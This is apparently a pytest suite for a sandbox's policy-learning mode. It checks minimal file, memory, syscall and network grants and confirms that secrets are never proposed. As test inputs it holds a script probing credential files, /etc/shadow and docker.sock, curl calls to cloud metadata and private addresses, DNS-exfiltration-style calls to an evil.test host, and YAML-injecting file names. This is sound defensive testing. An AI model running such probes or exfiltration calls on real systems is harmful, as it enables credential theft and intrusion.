"""Learn mode: with the learned policy the same program works, without it it does not; and what must never be proposed is
not, however it is asked for."""
import json
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from helpers import ANY, BRIG, CALLERS, PUBLIC, WATCHED


OUTSIDE = "/srv" if os.access("/srv", os.W_OK) else "/var/tmp"
ROUNDS = 6  # a program that gets further asks for more


@pytest.fixture
def place(caller):
    """A folder outside of everything that a sandbox sees, which this caller owns."""
    folder = Path(tempfile.mkdtemp(prefix="learn-", dir=OUTSIDE))
    os.chown(folder, caller.uid, caller.uid)
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


def own(caller, path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    for made in [path, *path.parents][:3]:
        if made.name.startswith("learn-") or made.parent == Path("/"):
            break
        os.chown(made, caller.uid, caller.uid)
    return path


def learn(caller, *command, policy=None, options=(), **kwargs):
    given = ["--policy", policy] if policy else []
    told = caller.json("--learn", *options, *given, "--", *command, **kwargs)
    assert "learned" in told, told
    return told


def save(name, told):
    path = PUBLIC / f"learn-{name}-{os.getpid()}.yaml"
    path.write_text(told["learned"]["policy"])
    path.chmod(0o644)
    checked = subprocess.run([BRIG, "policy", "check", path], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr
    return path


def learn_until_it_works(caller, *command, options=(), most=ROUNDS, **kwargs):
    """(policy file, all rounds). The control: the first round, with nothing allowed, fails."""
    rounds, policy = [], None
    for _ in range(most):
        told = learn(caller, *command, policy=policy, options=() if policy else options, **kwargs)
        rounds.append(told)
        if told["status"] == 0:
            break
        assert told["learned"]["proposals"], told
        assert told["learned"]["complete"] is False
        policy = save(caller.name, told)
    assert len(rounds) > 1, "it works without a policy: the test shows nothing"
    assert rounds[-1]["status"] == 0, rounds[-1]
    return policy, rounds


def proposals(told, field):
    return [p["value"] for p in told["learned"]["proposals"] if p["field"] == field]


# Where there is no cgroup the supervisor looks from time to time.
SLOWLY = """import time
x = []
while len(x) < 90: x.append(bytearray(b'x' * (1 << 20))); time.sleep(0.01)
time.sleep(1)"""


def tiered(caller, tier):
    return caller.with_options("--tier", tier)


# ---- files ----

def test_one_file_is_one_line_and_then_it_works(caller, tier, place):
    data = own(caller, place / "deep" / "data.csv", "1,2\n")
    box = tiered(caller, tier)
    assert box.run("--", "cat", data).returncode != 0
    policy, rounds = learn_until_it_works(box, "cat", data)
    assert proposals(rounds[0], "filesystem.ro") == [str(data)]
    assert box.run("--policy", policy, "--", "cat", data).stdout == "1,2\n"
    assert rounds[-1]["learned"]["proposals"] == [] and rounds[-1]["learned"]["complete"] is True
    # Its neighbour is not in it.
    own(caller, place / "deep" / "other", "no")
    assert box.run("--policy", policy, "--", "cat", place / "deep" / "other").returncode != 0


def test_a_python_project_in_the_working_folder(caller, tier, place):
    own(caller, place / "main.py", "import helper\nprint(helper.total(open('numbers.txt')))\n")
    own(caller, place / "helper.py", "def total(lines):\n    return sum(map(int, lines))\n")
    own(caller, place / "numbers.txt", "3\n4\n")
    box = tiered(caller, tier)
    policy, rounds = learn_until_it_works(box, "python3", "main.py", cwd=place)
    assert "can't open file" in rounds[0]["stderr"]
    result = box.run("--policy", policy, "--", "python3", "main.py", cwd=place)
    assert (result.returncode, result.stdout) == (0, "7\n")
    # Reading is all that it asked for.
    assert "rw:" not in policy.read_text()


def test_writing_needs_the_folder_and_nothing_more(caller, place):
    out = place / "out"
    own(caller, out / "old", "")
    script = f"echo hello > {out}/new && cat {out}/new"
    policy, rounds = learn_until_it_works(caller, "sh", "-c", script)
    assert proposals(rounds[0], "filesystem.rw") == [str(out)]
    assert (out / "new").read_text() == "hello\n"
    assert "risk high" in policy.read_text()


def test_many_files_become_their_folder(caller, place):
    names = [str(own(caller, place / "many" / f"{i}.txt", f"{i}\n")) for i in range(9)]
    told = learn(caller, "cat", *names)
    assert proposals(told, "filesystem.ro") == [str(place / "many")]
    few = learn(caller, "cat", *names[:3])
    assert sorted(proposals(few, "filesystem.ro")) == sorted(names[:3])


def test_what_a_folder_has_beside_a_grant_is_found(caller, place):
    """The program lists the folder of a file that it may read, and misses the rest."""
    own(caller, place / "app" / "first", "")
    own(caller, place / "app" / "second", "")
    script = f"cat {place}/app/first && ls {place}/app | grep -q second"
    policy, rounds = learn_until_it_works(caller, "sh", "-c", script)
    assert proposals(rounds[0], "filesystem.ro") == [str(place / "app" / "first")]
    assert proposals(rounds[1], "filesystem.ro") == [str(place / "app")]


def test_files_in_tmp_are_found_behind_the_private_one(caller):
    with tempfile.TemporaryDirectory(prefix="learn-") as folder:
        os.chown(folder, caller.uid, caller.uid)
        data = own(caller, Path(folder) / "data", "tmp\n")
        policy, _ = learn_until_it_works(caller, "cat", data)
        assert caller.run("--policy", policy, "--", "cat", data).stdout == "tmp\n"


def test_a_link_is_followed_before_anything_is_decided(caller, tier, place):
    """The name is harmless, what it leads to is not; and one that leads to data works."""
    real = own(caller, place / "real" / "data", "linked\n")
    (place / "harmless").symlink_to("/etc/shadow")
    (place / "good").symlink_to(real)
    box = tiered(caller, tier)
    told = learn(box, "cat", place / "harmless")
    assert told["learned"]["proposals"] == []
    assert str(place / "harmless") in [r["what"] for r in told["learned"]["refused"]]
    policy, rounds = learn_until_it_works(box, "cat", place / "good")
    assert proposals(rounds[0], "filesystem.ro") == [str(real)]


def test_a_program_that_is_not_in_view(caller, tier, place):
    tool = shutil.copy("/bin/true", place / "tool")
    os.chown(tool, caller.uid, caller.uid)
    box = tiered(caller, tier)
    target = place / "policy.yaml"
    result = box.run(f"--learn={target}", "--", tool)
    assert result.returncode == 127 or result.returncode == 126, result
    assert box.run("--policy", target, "--", tool).returncode == 0


def test_files_that_it_made_itself_are_not_missing(caller):
    script = "test -e /tmp/x || echo 1 > /tmp/x; cat /tmp/x; cp /bin/true /tmp/t; /tmp/t; mkdir d; touch d/e; ls d"
    told = learn(caller, "sh", "-c", script)
    assert told["status"] == 0 and told["learned"]["proposals"] == [], told["learned"]


def test_execution_of_what_was_written(caller):
    script = "cp /bin/true /tmp/t; /tmp/t"
    policy, rounds = learn_until_it_works(caller, "sh", "-c", script, options=["--noexec"])
    assert proposals(rounds[0], "filesystem.exec") == ["true"]


def test_another_root_is_not_filled_up_with_the_hosts_files(tmp_path):
    """What its own /usr does not have is not the host's to give; what lies elsewhere is."""
    root = tmp_path / "root"
    (root / "usr" / "bin").mkdir(parents=True)
    shutil.copy("/bin/busybox" if os.path.exists("/bin/busybox") else BRIG, root / "usr" / "bin" / "tool")
    for name in ("etc", "tmp", "proc", "dev"):
        (root / name).mkdir()
    told = learn(ANY, "/usr/bin/env", options=["--root", root])
    assert told["status"] == 127
    assert told["learned"]["proposals"] == []


# ---- limits ----

@pytest.mark.parametrize(
    "field, options, command",
    [
        ("lifecycle.memory", ["-m", "32M", *WATCHED], ["python3", "-c", SLOWLY]),
        ("lifecycle.disk", ["--disk", "1M"], ["dd", "if=/dev/zero", "of=/tmp/x", "bs=64K", "count=40"]),
        ("lifecycle.timeout", ["--timeout", "300ms"], ["sleep", "0.5"]),
    ],
    ids=["memory", "disk", "timeout"],
)
def test_a_limit_that_was_hit_is_raised_until_it_is_enough(field, options, command):
    # How often the time is doubled depends on how busy the machine is, and so does whether it is enough once more.
    timed = field == "lifecycle.timeout"
    policy, rounds = learn_until_it_works(ANY, *command, options=options, most=10 if timed else ROUNDS)
    for told in rounds[:-1]:
        assert proposals(told, field), told["learned"]
    assert any(ANY.run("--policy", policy, "--", *command).returncode == 0 for _ in range(5 if timed else 1))


def test_gcc_with_little_memory():
    code = ("#include <unistd.h>\nstatic char big[48 << 20];\n"
            "int main(void) { for (unsigned i = 0; i < sizeof big; i += 4096) { big[i] = 1; if (i % (1 << 20) == 0) usleep(10000); } sleep(1); return 0; }")
    script = f"printf '%s' '{code}' > a.c && gcc -o a a.c && ./a"
    policy, rounds = learn_until_it_works(ANY, "sh", "-c", script, options=["-m", "16M", *WATCHED])
    assert proposals(rounds[0], "lifecycle.memory") == ["32M"]


# ---- calls ----

def test_a_server_on_the_process_tier_needs_the_container_tier(caller):
    node = ("const s = require('http').createServer((q, r) => r.end('served')).listen(8123, '127.0.0.1', () => "
            "require('http').get('http://127.0.0.1:8123', r => r.on('data', d => { console.log('' + d); s.close() })));")
    options = ["--tier", "process", "-m", "1G", "--pids", "256", *WATCHED]
    policy, rounds = learn_until_it_works(caller, "node", "-e", node, options=options)
    assert proposals(rounds[0], "kernel.tier") == ["container"]
    assert caller.run("--policy", policy, "--", "node", "-e", node).stdout == "served\n"


def test_unix_sockets_that_a_grant_would_close(caller, place):
    data = own(caller, place / "data", "x\n")
    code = f"import socket; s = socket.socket(socket.AF_UNIX); s.bind('/tmp/s'); print(open('{data}').read(), end='')"
    policy, rounds = learn_until_it_works(caller, "python3", "-c", code)
    assert len(rounds) == 2, "the first round saw both"
    assert proposals(rounds[0], "kernel.unix_sockets") == ["require"]


def test_calls_that_nothing_allows_are_told(caller):
    told = learn(caller, "unshare", "--user", "true")
    refused = {r["what"]: r["why"] for r in told["learned"]["refused"]}
    assert "no setting allows it" in refused["unshare(CLONE_NEWUSER)"]
    assert told["learned"]["proposals"] == []


# ---- what is never proposed ----

HOSTILE = """
import os, sys
places = sys.argv[1:]
for place in places:
    for ask in (open, os.stat, os.listdir, os.readlink, lambda p: open(p, 'w'), lambda p: os.execv(p, [p])):
        try: ask(place)
        except OSError: pass
        except ValueError: pass
"""


def secret_places(home):
    made = [".ssh/id_rsa", ".aws/credentials", ".config/gcloud/credentials.db", ".docker/config.json", ".netrc",
            ".git-credentials", ".local/share/keyrings/login.keyring", ".mozilla/firefox/x/logins.json", ".kube/config",
            ".gnupg/secring.gpg", "project/.env", "project/key.pem", ".cache/token"]
    for name in made:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("secret")
    return [str(home / name) for name in made]


def test_secrets_are_never_proposed(caller, tier, place):
    home = place / "home"
    home.mkdir()
    secrets = secret_places(home)
    subprocess.run(["chown", "-R", f"{caller.uid}:{caller.uid}", home], check=True)
    good = own(caller, place / "good", "x")  # the control: the same program, and this one is
    wide = ["/", "/etc", "/home", "/root", "/srv", "/usr", "/var", "/tmp", str(home)]
    closed = ["/etc/shadow", "/root/.ssh/id_rsa", "/root/.bashrc", "/proc/1/environ", "/sys/kernel", "/run/docker.sock",
              "/var/run/docker.sock", "/dev/sda", "/var/lib/docker"]
    env = {**os.environ, "HOME": str(home)}
    told = learn(tiered(caller, tier), "python3", "-c", HOSTILE, *secrets, *wide, *closed, good, env=env)
    found = [p["value"] for p in told["learned"]["proposals"]]
    # It also tried to write and to make: the folder of `good` is what a change there needs.
    allowed = {str(good), str(place)}
    assert set(found) <= allowed | {"true"} and set(found) & allowed, told["learned"]
    lines = [line for line in told["learned"]["policy"].splitlines() if not line.lstrip().startswith("#")]
    for secret in secrets + wide + closed:
        assert not any(line.strip().strip('-" ') == secret for line in lines), secret
    refused = {r["what"] for r in told["learned"]["refused"]}
    if tier == "container":
        assert set(secrets) <= refused


def test_names_cannot_break_the_file(caller, tier, place):
    names = ["a\n    - /etc", "b\r\nlevel: low", "c\x1b[2Jx", "d\x7f\x9b", "e\u202ef", 'g" #', "h: [/etc]", "- /etc",
             "\udcff\udcfe", "i\\", "'", "{}", "é"]
    for name in names:
        own(caller, place / name, "odd\n")
    paths = [str(place / name) for name in names]
    code = "import sys\nfor p in sys.argv[1:]:\n    try: open(p)\n    except OSError: pass"
    told = learn(tiered(caller, tier), "python3", "-c", code, *paths)
    text = told["learned"]["policy"]
    assert all(ch == "\n" or ch.isprintable() for ch in text), text
    assert text.count("\nlevel:") == 1 and "\n    - /etc\n" not in text
    policy = save(f"names-{caller.name}-{tier}", told)
    shown = json.loads(subprocess.run([BRIG, "policy", "show", "--json", "--policy", policy], capture_output=True,
                                      text=True, check=True).stdout)
    # Those that can be written are there as they are, or their folder is.
    granted = shown["filesystem"]["ro"]
    assert granted == [str(place)] or set(granted) <= set(paths)
    assert "/etc" not in granted


def test_learning_is_no_way_around(caller, tier, place):
    """The same walls: what a run is refused, a learning run is refused too."""
    data = own(caller, place / "data", "x")
    box = tiered(caller, tier)
    plain = box.json("--", "sh", "-c", f"cat {data}; echo x > /usr/x; cat /etc/shadow; unshare --user true; true")
    told = learn(box, "sh", "-c", f"cat {data}; echo x > /usr/x; cat /etc/shadow; unshare --user true; true")
    assert plain["stdout"] == told["stdout"] == ""
    assert plain["stderr"] == told["stderr"]
    names = {d["what"] for d in plain["denials"]}
    assert names and names <= {d["what"] for d in told["denials"]}
    ours, theirs = told["receipt"]["boundaries"], plain["receipt"]["boundaries"]
    for fact in ("tier", "capabilities", "no_new_privs", "seccomp", "refused_calls_seen", "descriptors"):
        assert ours["kernel"][fact] == theirs["kernel"][fact]
    assert set(ours["filesystem"]) == set(theirs["filesystem"])
    for fact in ("landlock_probe", "landlock_abi", "root_readonly"):
        assert ours["filesystem"].get(fact) == theirs["filesystem"].get(fact)


def test_a_flood_of_names_is_bounded(caller):
    code = "import os\nfor i in range(20000):\n    try: os.stat('/srv/%d' % i + 'x' * 100)\n    except OSError: pass"
    told = learn(caller, "python3", "-c", code, options=["--timeout", "5m"])
    assert told["status"] == 0 and told["learned"]["dropped"] > 1000
    assert told["learned"]["complete"] is False and "# Incomplete" in told["learned"]["policy"]


def test_what_the_caller_cannot_read_is_not_proposed():
    if len(CALLERS) < 2:
        pytest.skip("needs root to make a file that the user cannot read")
    user = CALLERS[1]
    with tempfile.TemporaryDirectory(prefix="learn-", dir=OUTSIDE) as folder:
        os.chmod(folder, 0o755)
        closed, open_one = Path(folder) / "closed", Path(folder) / "open"
        for path, mode in ((closed, 0o600), (open_one, 0o644)):
            path.write_text("x")
            path.chmod(mode)
        told = learn(user, "cat", closed, open_one)
    assert proposals(told, "filesystem.ro") == [str(open_one)]
    assert {r["what"]: r["why"] for r in told["learned"]["refused"]}[str(closed)] == "you may not read it yourself"


# ---- the file ----

def test_the_file_is_not_overwritten(tmp_path):
    run = [BRIG, "run", "--learn", "--", "cat", "/srv/nothing"]
    first = subprocess.run(run, cwd=tmp_path, capture_output=True, text=True)
    target = tmp_path / "brig-policy.yaml"
    assert target.exists() and first.returncode == 1
    target.write_text("level: low\n")
    marker = tmp_path / "ran"
    again = subprocess.run([BRIG, "run", "--learn", "--rw", str(tmp_path), "--", "touch", str(marker)], cwd=tmp_path,
                           capture_output=True, text=True)
    assert again.returncode == 125 and "is there already" in again.stderr and not marker.exists()
    assert target.read_text() == "level: low\n"
    forced = subprocess.run([*run[:3], "--force", *run[3:]], cwd=tmp_path, capture_output=True, text=True)
    assert forced.returncode == 1 and target.read_text().startswith("# Learned by")
    assert [p.name for p in tmp_path.iterdir()] == ["brig-policy.yaml"]


def test_a_link_that_the_code_laid_is_not_followed(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("mine")
    project = tmp_path / "project"
    project.mkdir()
    lay = f"ln -s {victim} {project}/p.yaml"
    result = subprocess.run([BRIG, "run", f"--learn={project}/p.yaml", "--rw", project, "--", "sh", "-c", lay],
                            capture_output=True, text=True)
    assert result.returncode == 125 and "is there already" in result.stderr
    assert (project / "p.yaml").is_symlink() and victim.read_text() == "mine"
    (project / "p.yaml").unlink()
    result = subprocess.run([BRIG, "run", f"--learn={project}/p.yaml", "--force", "--rw", project, "--", "sh", "-c", lay],
                            capture_output=True, text=True)
    assert result.returncode == 0 and not (project / "p.yaml").is_symlink() and victim.read_text() == "mine"


def test_to_stdout_and_what_is_said():
    result = subprocess.run([BRIG, "run", "--learn=-", "--", "sh", "-c", "echo hi; exit 3"], capture_output=True, text=True)
    assert result.returncode == 3
    assert result.stdout.startswith("hi\n# Learned by") and "level: high" in result.stdout
    assert "learned: nothing that could be allowed was refused" in result.stderr


@pytest.mark.parametrize("options, text", [(["--learn", "--plan"], "contradict"), (["--force"], "--force is for --learn"),
                                           (["--learn=-", "--json"], "leave out")])
def test_contradictions(options, text):
    result = subprocess.run([BRIG, "run", *options, "--", "true"], capture_output=True, text=True)
    assert result.returncode == 125 and text in result.stderr + result.stdout


def test_the_same_run_gives_the_same_text(caller, place):
    own(caller, place / "b", "")
    own(caller, place / "a", "")
    texts = {learn(caller, "cat", place / "b", place / "a")["learned"]["policy"] for _ in range(2)}
    assert len(texts) == 1


# ---- network ----

CURL = "curl -sS --fail http://files.lab.test/ https://files.lab.test/"
NO_PROXY = "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; "


@pytest.mark.parametrize("way", ["", NO_PROXY], ids=["by-proxy", "without-knowing"])
def test_curl_learns_its_hosts(lab_box, way):
    policy, rounds = learn_until_it_works(lab_box, "sh", "-c", way + CURL)
    text = policy.read_text()
    assert '"http://files.lab.test:80"' in text and '"https://files.lab.test:443"' in text
    shown = lab_box.run("--policy", policy, "--", "sh", "-c", way + CURL)
    assert shown.stdout == "hello from nginx\n" * 2
    other = lab_box.run("--policy", policy, "--", "sh", "-c", way + "curl -sS --fail http://api.lab.test/")
    assert other.returncode != 0


def test_git_clone_learns_its_host(lab_caller):
    clone = ["git", "clone", "-q", "https://git.lab.test/repo.git", "/tmp/repo"]
    policy, rounds = learn_until_it_works(lab_caller, *clone, options=["-m", "1G", *WATCHED])
    assert proposals(rounds[0], "network.allow") == ["https://git.lab.test:443"]


def test_metadata_and_private_addresses_are_never_proposed(lab_box):
    asked = ["http://169.254.169.254/latest/meta-data/", "http://10.13.13.13/", "http://192.168.77.1:8080/", "http://127.0.0.1:8080/",
             "http://metadata.google.internal/", "http://[fd00:77::7]/", "http://db.internal/", "http://100.100.100.200/"]
    script = "; ".join(f"curl -sS -m 20 --noproxy '' '{url}'" for url in asked)
    told = learn(lab_box, "sh", "-c", f"{script}; curl -sS -m 20 http://api.lab.test:8080/; true")
    assert proposals(told, "network.allow") == ["http://api.lab.test:8080"]  # the control
    listed = " ".join(r["what"] for r in told["learned"]["refused"])
    for part in ("169.254.169.254", "10.13.13.13", "192.168.77.1", "metadata.google.internal", "db.internal"):
        assert part in listed, told["learned"]["refused"]


def test_names_that_carry_data_are_not_proposed(lab_caller, lab):
    names = "; ".join(f"curl -sS -m 20 http://{i:032x}.evil.test/" for i in range(12))
    told = learn(lab_caller, "sh", "-c", f"{names}; true")
    assert proposals(told, "network.allow") == []
    assert any("data on its way out" in r["why"] for r in told["learned"]["refused"])


def test_no_name_is_looked_up_while_learning(lab_caller, lab):
    watch = lab.watch()
    fetch = NO_PROXY + "curl -sS -m 20 http://other.lab.test/; true"
    told = learn(lab_caller, "sh", "-c", fetch)
    assert proposals(told, "network.allow") == ["http://other.lab.test:80"]
    assert "other.lab.test" not in watch.names()
    # The control: with the rule it is.
    lab_caller.run("--policy", save("names", told), "--", "sh", "-c", fetch)
    assert "other.lab.test" in watch.names()
